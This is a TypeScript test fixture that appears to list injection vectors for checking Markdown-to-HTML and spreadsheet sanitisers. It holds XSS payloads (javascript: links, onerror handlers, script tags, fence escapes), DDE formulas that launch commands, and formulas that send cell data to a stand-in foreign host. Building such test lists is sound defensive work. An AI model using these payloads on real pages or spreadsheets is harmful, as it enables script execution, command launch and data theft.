import { foreignHost, payload, vector, type ScriptVector } from './scriptVector';

/** What acts in a Markdown page that is shown as HTML. */
export const markdownVectors: readonly ScriptVector[] = [
  vector('a link', `[x](javascript:${payload})`),
  vector('a link in mixed case', `[x](JaVaScRiPt:${payload})`),
  vector('a link with entities', `[x](&#106;avascript:${payload})`),
  vector('a link with a break', `[x](java\tscript:${payload})`),
  vector('a link in brackets', `[x](<javascript:${payload}>)`),
  vector('a link as data', `[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)`),
  vector('a link by reference', `[x][y]\n\n[y]: javascript:${payload}`),
  vector('a link by itself', `<javascript:${payload}>`),
  vector('an image', `![x](x"onerror="${payload})`),
  vector('an image with a title', `![x](x "x\\"onerror=${payload}")`),
  vector('an image from a script', `![x](javascript:${payload})`),
  vector('HTML in a line', `x <img src=x onerror=${payload}> y`),
  vector('HTML as a block', `<script>\n${payload}\n</script>`),
  vector('HTML in a heading', `# <svg onload=${payload}>`),
  vector('HTML in a list', `- <img src=x onerror=${payload}>`),
  vector('HTML in a quotation', `> <iframe srcdoc="<script>${payload}</script>">`),
  vector('HTML in a table', `| a |\n| - |\n| <img src=x onerror=${payload}> |`),
  vector('HTML after a fence', `\`\`\`\nx\n\`\`\`\n<script>${payload}</script>`),
  vector('a fence that ends early', `\`\`\`\`\n\`\`\`\n<script>${payload}</script>\n\`\`\`\``),
  vector('a fence’s language', `\`\`\`x"><img src=x onerror=${payload}>\nx\n\`\`\``),
  vector('a code span', `\`<script>${payload}</script>\``),
  vector('front matter', `---\ntitle: !!js/function 'function(){${payload}}'\n---\nx`),
  vector('a wiki link', `[[javascript:${payload}]]`),
  vector('a formula', `$\\href{javascript:${payload}}{x}$`),
  vector('a diagram', `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${payload}>"]\n\`\`\``),
];

/** What acts in a spreadsheet. */
export const cellVectors: readonly ScriptVector[] = [
  vector('a program by DDE', `=cmd|' /C calc'!A0`),
  vector('a program by DDE, plus', `+cmd|' /C calc'!A0`),
  vector('a program by DDE, minus', `-2+3+cmd|' /C calc'!A0`),
  vector('a program by DDE, at', `@SUM(1+1)*cmd|' /C calc'!A0`),
  vector('a link', `=HYPERLINK("https://${foreignHost}/?x="&A1,"x")`),
  vector('a web service', `=WEBSERVICE("https://${foreignHost}/")`),
  vector('an imported sheet', `=IMPORTXML("https://${foreignHost}/","//a")`),
  vector('an image', `=IMAGE("https://${foreignHost}/a.png")`),
  vector('after a tab', `\t=1+1`),
  vector('in full width', `＝1+1`),
  vector('a script', `=1+1"><script>${payload}</script>`),
  vector('a quotation mark that ends', `x","=1+1`),
];
